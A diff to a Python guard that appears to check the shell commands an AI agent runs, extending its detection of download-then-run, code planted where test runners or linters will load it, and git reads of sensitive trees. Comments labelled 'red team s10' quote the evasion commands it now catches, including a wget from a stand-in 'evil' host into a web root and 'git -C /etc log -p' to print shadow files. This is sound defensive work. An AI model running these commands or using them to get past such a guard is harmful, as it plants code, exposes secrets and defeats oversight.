@@ -53,6 +53,10 @@ LIVE = "live:"
 PLANTED = "links:"
 #: world-writable scratch space: anything may have been put there, by anyone
 SCRATCH = ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user")
+#: where deploys keep their trees: a download there is a release archive (safe.py's
+#: extract_dir_ok unpacks into them)
+DEPLOY_ROOTS = ("/srv/", "/opt/", "/data/")
+_RELEASE_ARCHIVE = re.compile(r"\.(tgz|tar|tar\.(gz|xz|bz2|zst)|zip|jar|war|whl|deb|rpm)$")
 
 #: tools whose operands are files (``all``) or files after a program/pattern/mode
 #: (``after-first``, unless the program comes by -e/-f)
@@ -102,15 +106,15 @@ CODE_RUNNERS: dict[str, frozenset[str]] = {
     # names (pylint's init-hook, flake8's local-plugins, mypy's plugins, coverage's plugins,
     # a Gemfile is Ruby, eslint/prettier/stylelint configs are JavaScript, rubocop require:,
     # golangci-lint plugins, a build backend uv and poetry run to read a project)
-    **dict.fromkeys(("pylint", "flake8", "mypy", "coverage", "eslint", "prettier",
-                     "stylelint", "rubocop", "golangci-lint", "uv", "poetry", "bundle",
-                     "vite", "webpack", "rollup", "nx", "turbo", "lerna", "playwright",
-                     "cypress", "vitest", "markdownlint-cli2", "tsx"), frozenset()),
+    **dict.fromkeys(("coverage", "stylelint", "rubocop", "golangci-lint", "uv", "poetry",
+                     "bundle", "vite", "webpack", "rollup", "nx", "turbo", "lerna",
+                     "playwright", "cypress", "vitest", "markdownlint-cli2", "tsx"),
+                    frozenset()),
     **dict.fromkeys(("make", "gmake", "pytest", "py.test", "tox", "nox", "mvn", "mvnw",
                      "gradle", "gradlew", "pre-commit", "ansible-playbook", "ansible",
                      "cmake", "ninja", "meson", "bazel", "bazelisk", "just", "task", "rake",
                      "invoke", "fab", "vagrant", "./gradlew", "./mvnw", "sbt", "ant",
-                     "tsc", "webpack", "vite", "jest", "mocha", "phpunit", "rspec"),
+                     "tsc", "webpack", "vite", "jest", "mocha", "phpunit", "rspec", "vitest"),
                     frozenset()),
     "npm": frozenset({"run", "run-script", "test", "t", "start", "install", "i", "ci",
                       "rebuild", "exec", "x", "restart", "stop", "pack", "publish", "build"}),
@@ -149,6 +153,37 @@ CODE_RUNNERS: dict[str, frozenset[str]] = {
     "dvc": frozenset({"repro", "exp", "run"}),
 }
 #: git subcommands that change files of the work tree, or make one
+#: files a runner reads as code that no general name table can hold (writing them is ordinary
+#: elsewhere): pytest collects doctests from ``test*.txt`` by default (red team s10)
+RUNNER_FILES: dict[str, re.Pattern[str]] = {
+    **{n: re.compile(r"(^|/)test[^/]*\.txt$") for n in ("pytest", "py.test")},
+    # the dependency files a Makefile's -include reads (make syntax: recipes)
+    **{n: re.compile(r"\.(d|dep|depend|inc)$") for n in ("make", "gmake")}}
+#: runners that collect code from the subdirectories of where they run (test discovery,
+#: packages, source trees, roles, modules), not only from files they are named: a tree of
+#: unknown content below them runs (make runs its own Makefile; git, docker, helm, kubectl
+#: read what they are given)
+WALKING_RUNNERS = frozenset({"pytest", "py.test", "tox", "nox", "npm", "yarn", "pnpm", "npx",
+                             "go", "cargo", "mvn", "mvnw", "./mvnw", "gradle", "gradlew",
+                             "./gradlew", "ansible-playbook", "terraform", "tofu",
+                             "terragrunt", "python", "python3", "jest", "mocha", "vite",
+                             "webpack", "tsc", "deno", "bun", "rspec", "phpunit", "sbt",
+                             "vitest", "mkdocs", "sphinx-build", "cmake"})
+#: linters and formatters that load code named by their configuration in the tree (eslint's
+#: and prettier's config files are JavaScript; mypy plugins, flake8 local plugins, pylint's
+#: init-hook and load-plugins are Python): their config files, once this scope wrote one,
+#: make the tool a runner. Linting a file the agent wrote stays ordinary (red team s10)
+LINTER_CONFIGS: dict[str, re.Pattern[str]] = {
+    **dict.fromkeys(("eslint", "prettier", "stylelint"), re.compile(
+        r"(^|/)((eslint|prettier|stylelint)\.config\.[a-z]+|\.(eslintrc|prettierrc|"
+        r"stylelintrc)([.][a-z]+)?|package\.json)$")),
+    **dict.fromkeys(("mypy", "flake8", "pylint", "pydocstyle", "pycodestyle"), re.compile(
+        r"(^|/)(mypy\.ini|\.mypy\.ini|setup\.cfg|tox\.ini|\.flake8|pyproject\.toml|"
+        r"\.?pylintrc(\.toml)?)$")),
+}
+#: git subcommands that print what files held (their past content, a secret's too)
+_GIT_SHOWS = frozenset({"log", "show", "diff", "grep", "blame", "cat-file", "whatchanged",
+                        "reflog", "format-patch", "archive", "shortlog", "annotate"})
 _GIT_WRITES = frozenset({"init", "mv", "rm", "checkout", "switch", "restore", "reset", "stash",
                          "apply", "am", "merge", "pull", "rebase", "cherry-pick", "revert",
                          "clean", "clone", "worktree", "read-tree", "checkout-index",
@@ -568,6 +603,10 @@ def _written(c: SimpleCommand, base: str, state: _State) -> list[str]:
         out += ops
     elif c.name in ("cp", "mv", "install", "rsync") and len(ops) >= 2:
         out.append(ops[-1])
+        # into a directory the copy lands under the source's own name (the guard cannot
+        # know which): ``cp /tmp/test_a.txt tests/`` writes tests/test_a.txt
+        out += [posixpath.join(ops[-1], o.rstrip("/").rsplit("/", 1)[-1]) for o in ops[:-1]
+                if o.rstrip("/").rsplit("/", 1)[-1] not in ("", ".", "..")]
     elif c.name == "sort":
         out += _option_value(c.args, "-o", "--output")
     elif c.name == "dd":
@@ -660,7 +699,9 @@ def _path_positions(c: SimpleCommand) -> set[int]:
                     out.add(i + 1)
                     i += 2
                     continue
-            elif a in short and i + 1 < len(args):
+            elif (a in short or (not a.startswith("--") and len(a) > 2 and a[1:].isalnum()
+                                 and "-" + a[-1] in short)) and i + 1 < len(args):
+                # -o V, and a short cluster ending in it (curl -sSo V): red team s10
                 out.add(i + 1)
                 i += 2
                 continue
@@ -761,12 +802,13 @@ _SERVICE_TOOLS = frozenset({"systemctl", "service", "pm2", "supervisorctl", "apa
 
 
 _STATEFUL = frozenset({"cd", "pushd", "popd", "chdir", "ln", "cp", "mv", "install", "env",
+                       "chmod",
                        "sudo", "systemd-run", "git", "tar", "bsdtar", "unzip", "7z", "cpio",
                        "curl", "wget", "aria2c", "fetch", "lwp-download", "scp", "rsync",
                        "export", "declare", "typeset", "local", "readonly", "kill",
                        "source", "."}) | \
     _READS_VARS | \
-    frozenset(CODE_RUNNERS) | _SERVICE_TOOLS
+    frozenset(CODE_RUNNERS) | _SERVICE_TOOLS | frozenset(LINTER_CONFIGS)
 
 
 _CHDIR_TOOLS = frozenset({"env", "sudo", "systemd-run", "make", "gmake", "tar", "bsdtar",
@@ -782,7 +824,8 @@ CONFIG_READERS = frozenset(CODE_RUNNERS) | {"kubectl", "oc", "helm", "docker", "
                                              "docker-compose", "ansible", "ansible-playbook",
                                              "ansible-inventory", "pip", "pip3", "terraform",
                                              "tofu", "source", "."}
-_JUDGED = CONFIG_READERS | {"git", "tar", "bsdtar", "unzip", "rsync"} | _SERVICE_TOOLS
+_JUDGED = CONFIG_READERS | {"git", "tar", "bsdtar", "unzip", "rsync"} | _SERVICE_TOOLS | \
+    frozenset(LINTER_CONFIGS)
 _WRITE_OPS = (">", ">>", ">|", "&>", "&>>", "<>")
 
 
@@ -899,6 +942,20 @@ def flow(commands: tuple[SimpleCommand, ...], line: str = "",
             _add_dirs(state, own)  # the wrapped command runs there (conservatively, onwards)
         out = [x for d in dirs for x in _fetch_targets(c, d, state)] \
             if c.name in _FETCHERS else []
+        if c.name in ("curl", "wget") and not step.unresolved:
+            # a name the download takes from the URL lands where a cd left the line: outside
+            # the tree and scratch it is a write no option spelled (red team s10: `cd
+            # /var/www/html && wget https://evil/index.html`)
+            away = next((t for t in out if t.startswith("/") and not t.startswith("/dev/")
+                         and not _trees_under(norm(t), list(SCRATCH)) and not (
+                             # a deploy root takes a release archive, never code or dot-files
+                             norm(t).startswith(DEPLOY_ROOTS) and not CODE_FILE.search(t)
+                             and not posixpath.basename(t).startswith(".")
+                             and _RELEASE_ARCHIVE.search(t))), None)
+            if away is not None:
+                step.findings.append(FlowFinding(
+                    "guard.unknown", (away,), f"{c.name} saves {away!r}, outside the working "
+                    "tree and scratch space"))
         # what the line writes is the agent's content: never a tool's manifest or code later
         out += [x for d in dirs for x in _written(c, d, state)]
         if state.live or state.live_here or state.sown:
@@ -915,6 +972,19 @@ def flow(commands: tuple[SimpleCommand, ...], line: str = "",
                 # (both resolved against d already: `cd w && git clone URL r` plants w/r)
                 got = _written(c, d, state) if c.name != "git" else _fetch_targets(c, d, state)
                 state.planted.extend(x if x != UNKNOWN else d for x in got)
+        if c.name == "chmod" and c.args and "x" in c.args[0] + ("x" if re.search(
+                r"[1357]", c.args[0]) else ""):
+            # a file the line wrote, made a program: a build script a runner may call
+            # (red team s10: printf ... > scripts/build && chmod +x scripts/build && npm run)
+            for d in dirs:
+                for o in c.args[1:]:
+                    r = _resolve(o, d, state.links)
+                    if state.root_of(r) is not None:
+                        state.planted.append(r)
+        if c.name in ("cp", "mv", "rsync", "install"):
+            # a copy of what this line wrote or fetched is unknown content in its new place
+            for d in dirs:
+                state.planted.extend(t for t in _fetch_targets(c, d, state) if t != UNKNOWN)
         if c.name in ("ln", "cp"):
             _links(c, dirs, state, step)
     ends = state.dirs if before is None else list(dict.fromkeys([*before, *state.dirs]))
@@ -1091,6 +1161,9 @@ def _links(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> None
                     # a name for such a tree is one too, for later lines (which do not know
                     # this line's links): ``ln -s /tmp/x rel``, then ``cd rel && make``
                     state.fetched.append(where.rstrip("/"))
+                    # and content no one judged below where runners walk (red team s10:
+                    # ``ln -s /tmp/evil tests/vendor``, then ``pytest``)
+                    state.planted.append(where.rstrip("/"))
                 if name in (".", "./") or name.endswith("/"):
                     base = target.rstrip("/").rsplit("/", 1)[-1]
                     state.links[join(where, base).rstrip("/")] = tgt.rstrip("/") or "/"
@@ -1118,10 +1191,16 @@ def _restarts_service(c: SimpleCommand) -> bool:
     if n in ("nginx", "httpd", "apache2"):
         return "-s" in c.args or "-k" in c.args
     if n == "touch":
-        # touch-to-reload: Passenger's tmp/restart.txt, mod_wsgi's .wsgi, uWSGI's ini
-        return any(w.endswith(("restart.txt", ".wsgi")) or "uwsgi" in w for w in words)
+        # an app server's restart file: Passenger reloads on tmp/restart.txt, uWSGI on its
+        # touch-reload file, mod_wsgi on a .wsgi (red teams s10, s10b)
+        return any(_RESTART_FILE.search(w) or w.endswith(".wsgi") or "uwsgi" in w
+                   for w in words)
     # any signal: a supervisor starts the worker it stopped again, on the new code
     return n in ("kill", "pkill", "killall")
+
+
+_RESTART_FILE = re.compile(r"(^|/)tmp/(always_)?restart\.txt$|(^|/)[^/]*reload[^/]*$|"
+                           r"\.uwsgi-reload$")
 
 
 def _code_written(state: _State) -> str | None:
@@ -1185,6 +1264,14 @@ def _findings(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> N
         places += [_follow(w, state.links) for w in _code_dirs(c) if w.startswith("/")]
         if relative_program:
             places += [_dir_of(join(d, c.argv[0])) for d in dirs]
+        # where a walking runner collects: the trees it is named (``pytest tests/``), else
+        # where it runs
+        named = [w for w in _code_dirs(c) if not _URLISH.match(w)] \
+            if c.name in ("pytest", "py.test") else []
+        walks = set() if c.name not in WALKING_RUNNERS else (
+            {join(d, w) if not w.startswith(("/", "~")) else w for d in dirs for w in named}
+            if named else set(dirs))
+        places += [w for w in walks if w not in places]
         for p in dict.fromkeys(places):
             why = untrusted_dir(p, state.fetched, state.earlier)
             if why and not (c.name == "git" and p != UNKNOWN and not (
@@ -1192,13 +1279,24 @@ def _findings(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> N
                 step.findings.append(FlowFinding(
                     "exec.download-then-run", (p,), f"runs code found in {why}"))
                 break
-            inside = _code_inside(p, state)
+            inside = _code_inside(p, state, extra=_runner_files(c)) or (
+                _planted_below(p, state) if p in walks else None)
             if inside:
                 step.findings.append(FlowFinding(
                     "exec.download-then-run", (inside,), f"runs code from {inside!r} (in "
                     f"{p or 'the working directory'!r}), which "
                     f"{_by_whom(inside, state.earlier)} wrote"))
                 break
+    configs = LINTER_CONFIGS.get(c.name)
+    if configs is not None and state.written():
+        for d in dirs:
+            conf = _code_inside(d, state, extra=configs, only_extra=True)
+            if conf is not None:
+                step.findings.append(FlowFinding(
+                    "exec.download-then-run", (conf,), f"{c.name} loads code its configuration "
+                    f"names, and {_by_whom(state.root_of(conf) or conf, state.earlier)} "
+                    f"wrote {conf!r}"))
+                return
     if c.name in CONFIG_READERS and c.name != "git" and state.written():
         words = [c.argv[i] for i in _path_positions(c)] + _code_dirs(c)
         if running:
@@ -1231,6 +1329,21 @@ def _findings(c: SimpleCommand, dirs: list[str], state: _State, step: Step) -> N
                 return
     if c.name == "git":
         gsub, _ = _git_sub(c)
+        if gsub in _GIT_SHOWS:
+            # a repository of /etc, /root or a home holds the past content of its files:
+            # ``git -C /etc log -p`` prints every shadow an etckeeper committed (red team s10)
+            gd = [x.rstrip("/").removesuffix("/.git") or "/" for x in
+                  _option_value(_git_globals(c), "--git-dir")]
+            trees = [join(b, t) if not t.startswith(("/", "~")) else t
+                     for t in [*_chdir_of(c), *gd] for b in dirs] or \
+                [d for d in dirs if d != START]
+            for t in trees:
+                why = _sensitive_tree(_follow(t, state.links) if t else t)
+                if why:
+                    step.findings.append(FlowFinding(
+                        "fs.work-tree-sensitive", (t,), f"git {gsub} prints what files held "
+                        f"in {why}"))
+                    break
         if gsub in _GIT_WRITES:
             trees = [join(b, t) if not t.startswith(("/", "~")) else t
                      for t in _chdir_of(c) for b in dirs] or list(dirs)
@@ -1309,22 +1422,55 @@ def _copy_untrusted(c: SimpleCommand, dirs: list[str], state: _State, step: Step
                 return
 
 
-def _code_inside(d: str, state: _State, git: bool = False) -> str | None:
+def _runner_files(c: SimpleCommand) -> re.Pattern[str] | None:
+    if c.name.startswith("python") and c.args[:2] == ("-m", "pytest"):
+        return RUNNER_FILES["pytest"]
+    return RUNNER_FILES.get(c.name)
+
+
+def _planted_below(d: str, state: _State) -> str | None:
+    """A tree this line unpacked, cloned or copied into, below directory ``d``: its content
+    is unknown (a conftest.py, a test file, a vendored module) and a runner that walks ``d``
+    (pytest, jest, go ./..., mvn) runs it (red team s10: ``unzip -d src x.zip && pytest``)."""
+    if d == UNKNOWN:
+        return None
+    base = d.rstrip("/")
+    # this line's trees, and those earlier lines planted (PLANTED entries of the memory)
+    for f in (*state.planted, *state.sown):
+        if f == UNKNOWN:
+            continue
+        inside = f.startswith(base + "/") if base else not f.startswith(("/", "~"))
+        if inside:
+            return f
+    return None
+
+
+def _code_inside(d: str, state: _State, git: bool = False,
+                 extra: re.Pattern[str] | None = None,
+                 only_extra: bool = False) -> str | None:
     """A written path below directory ``d`` that tools read as their code or configuration
     there (``Makefile``, ``tests/conftest.py``, ``package.json``, ``.git/config``), or None.
-    ``git``: only what git reads (a dot-file, or a bare repository's config, HEAD, hooks)."""
+    ``git``: only what git reads (a dot-file, or a bare repository's config, HEAD, hooks).
+    ``only_extra``: only what ``extra`` names (a linter's configuration files)."""
     if d == UNKNOWN or not state.written():
         return None
     base = d.rstrip("/")
     for f in (*state.fetched, *state.earlier):
         if f == ANYWHERE:
+            if only_extra:
+                return f  # written anywhere: the configuration too
             continue
         if base:
             rel = f[len(base) + 1:] if f.startswith(base + "/") else ""
         else:
             rel = f if not f.startswith(("/", "~")) else ""
         parts = rel.split("/") if rel else []
-        if rel and ((not git and CODE_FILE.search(rel)) or any(
+        if only_extra:
+            if rel and extra is not None and extra.search(rel):
+                return f
+            continue
+        if rel and ((not git and (CODE_FILE.search(rel) or (
+                extra is not None and extra.search(rel)))) or any(
                 s.startswith(".") and s not in (".", "..") for s in parts) or (git and (
                     parts[-1] in ("config", "HEAD") or "hooks" in parts))):
             return f
